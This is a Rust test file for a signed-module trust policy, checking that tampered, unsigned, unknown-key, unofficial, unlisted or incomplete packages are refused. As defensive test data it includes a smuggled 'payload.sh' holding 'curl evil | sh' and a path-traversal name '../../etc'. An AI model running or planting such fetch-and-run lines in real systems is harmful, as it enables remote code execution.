//! The trust policy's steps: each red line refused with its own error and
//! kind of refusal, each allow path beside its deny.

use hardshell_audit::event::ModuleRefusal;
use hardshell_modules::{ENTRY_POINT, ModuleError, ModuleName, Package, TrustPolicy, claimed_name};
use hardshell_testkit::modules::{Entry, PLAIN_BODY, Publisher, WASM, manifest, tar_of};

use crate::Fixture;

fn refusal(result: Result<hardshell_modules::Verified, ModuleError>) -> ModuleRefusal {
    result.unwrap_err().refusal().unwrap()
}

#[test]
fn a_signed_package_verifies_and_names_its_signer_and_digests() {
    let fixture = Fixture::official();
    let bytes = fixture.package("web-search", "1.0.0");
    let verified = fixture.verify(bytes.clone()).unwrap();
    assert_eq!(verified.manifest().name.as_str(), "web-search");
    assert_eq!(verified.signer().key_name, "example");
    assert_eq!(
        verified.signer().key_id.to_string(),
        fixture.publisher.key_id()
    );
    assert!(verified.signer().official);
    assert_eq!(verified.digest(), hardshell_modules::sha256(&bytes));
    assert_eq!(verified.file(ENTRY_POINT), Some(WASM));
}

#[test]
fn tampered_wasm_under_a_valid_manifest_is_refused() {
    let fixture = Fixture::official();
    let files: &[(&str, &[u8])] = &[("module.wasm", WASM)];
    let text = manifest("web-search", "1.0.0", PLAIN_BODY, files);
    let tampered: &[(&str, &[u8])] = &[("module.wasm", b"\0asm\x01\0\0\0 something else")];
    let bytes = fixture.publisher.package(&text, tampered);
    let result = fixture.verify(bytes);
    assert!(matches!(&result, Err(ModuleError::FileDigest { path, .. }) if path == "module.wasm"));
    assert_eq!(refusal(result), ModuleRefusal::FileDigest);
}

#[test]
fn an_edited_manifest_under_the_old_signature_is_refused() {
    let fixture = Fixture::official();
    let files: &[(&str, &[u8])] = &[("module.wasm", WASM)];
    let text = manifest("web-search", "1.0.0", PLAIN_BODY, files);
    let signature = fixture.publisher.sign(text.as_bytes());
    let edited = text.replace("memory_mb = 64", "memory_mb = 256");
    let bytes = tar_of(&[
        Entry::file("module.toml", edited.as_bytes()),
        Entry::file("module.toml.minisig", &signature),
        Entry::file("module.wasm", WASM),
    ]);
    let result = fixture.verify(bytes);
    assert!(
        matches!(&result, Err(ModuleError::BadSignature { key_name }) if key_name == "example")
    );
    assert_eq!(refusal(result), ModuleRefusal::BadSignature);
}

#[test]
fn an_unsigned_package_is_refused() {
    let fixture = Fixture::official();
    let files: &[(&str, &[u8])] = &[("module.wasm", WASM)];
    let text = manifest("web-search", "1.0.0", PLAIN_BODY, files);
    let bytes = tar_of(&[
        Entry::file("module.toml", text.as_bytes()),
        Entry::file("module.wasm", WASM),
    ]);
    let result = fixture.verify(bytes);
    assert!(matches!(result, Err(ModuleError::Unsigned)));
    assert_eq!(refusal(result), ModuleRefusal::Unsigned);
    // Nor does garbage in the signature's place count as one.
    let bytes = tar_of(&[
        Entry::file("module.toml", text.as_bytes()),
        Entry::file("module.toml.minisig", b"untrusted comment: x\nnot base64\n"),
        Entry::file("module.wasm", WASM),
    ]);
    assert!(matches!(
        fixture.verify(bytes),
        Err(ModuleError::SignatureMalformed)
    ));
}

#[test]
fn a_package_signed_by_an_unknown_key_is_refused_naming_that_key() {
    let fixture = Fixture::official();
    let stranger = Publisher::new();
    let files: &[(&str, &[u8])] = &[("module.wasm", WASM)];
    let bytes = stranger.package(&manifest("web-search", "1.0.0", PLAIN_BODY, files), files);
    let result = fixture.verify(bytes);
    assert!(
        matches!(&result, Err(ModuleError::UnknownKey { key_id }) if *key_id == stranger.key_id()),
        "{result:?}"
    );
    assert_eq!(refusal(result), ModuleRefusal::UnknownKey);
}

#[test]
fn an_unofficial_key_is_refused_unless_unofficial_keys_are_allowed() {
    let mut fixture = Fixture::trusting(false);
    let bytes = fixture.package("web-search", "1.0.0");
    let result = fixture.verify(bytes.clone());
    assert!(
        matches!(&result, Err(ModuleError::Unofficial { key_name, .. }) if key_name == "example")
    );
    assert_eq!(refusal(result), ModuleRefusal::Unofficial);
    fixture.config.allow_unofficial = true;
    let verified = fixture.verify(bytes).unwrap();
    assert!(!verified.signer().official);
}

#[test]
fn a_name_outside_a_non_empty_allow_list_is_refused() {
    let mut fixture = Fixture::official();
    fixture.config.allow = vec![ModuleName::parse("fetch").unwrap()];
    let result = fixture.verify(fixture.package("web-search", "1.0.0"));
    assert!(
        matches!(&result, Err(ModuleError::NotAllowed { name }) if name.as_str() == "web-search")
    );
    assert_eq!(refusal(result), ModuleRefusal::NotAllowed);
    fixture.verify(fixture.package("fetch", "1.0.0")).unwrap();
}

#[test]
fn a_file_the_manifest_does_not_list_or_a_listed_file_missing_is_refused() {
    let fixture = Fixture::official();
    let listed: &[(&str, &[u8])] = &[("module.wasm", WASM)];
    let text = manifest("web-search", "1.0.0", PLAIN_BODY, listed);
    let extra: &[(&str, &[u8])] = &[("module.wasm", WASM), ("payload.sh", b"curl evil | sh")];
    let result = fixture.verify(fixture.publisher.package(&text, extra));
    assert!(matches!(&result, Err(ModuleError::UnlistedFile { path }) if path == "payload.sh"));
    assert_eq!(refusal(result), ModuleRefusal::FilesNotListed);

    let two: &[(&str, &[u8])] = &[("module.wasm", WASM), ("data.txt", b"d")];
    let text = manifest("web-search", "1.0.0", PLAIN_BODY, two);
    let result = fixture.verify(fixture.publisher.package(&text, listed));
    assert!(matches!(&result, Err(ModuleError::MissingFile { path }) if path == "data.txt"));
}

#[test]
fn a_refused_package_still_says_the_name_it_claims_for_the_record() {
    let fixture = Fixture::official();
    let package = Package::parse(Publisher::new().package(
        &manifest("web-search", "1.0.0", PLAIN_BODY, &[("module.wasm", WASM)]),
        &[("module.wasm", WASM)],
    ))
    .unwrap();
    assert_eq!(
        claimed_name(package.manifest()).unwrap().as_str(),
        "web-search"
    );
    assert!(claimed_name(b"name = \"../../etc\"").is_none());
    assert!(fixture.policy().verify(package).is_err());
}

#[test]
fn a_policy_trusts_no_key_but_the_listed_ones() {
    let fixture = Fixture::official();
    let empty = TrustPolicy::from_config(&hardshell_config::Modules::default()).unwrap();
    let package = Package::parse(fixture.package("web-search", "1.0.0")).unwrap();
    assert!(matches!(
        empty.verify(package),
        Err(ModuleError::UnknownKey { .. })
    ));
}
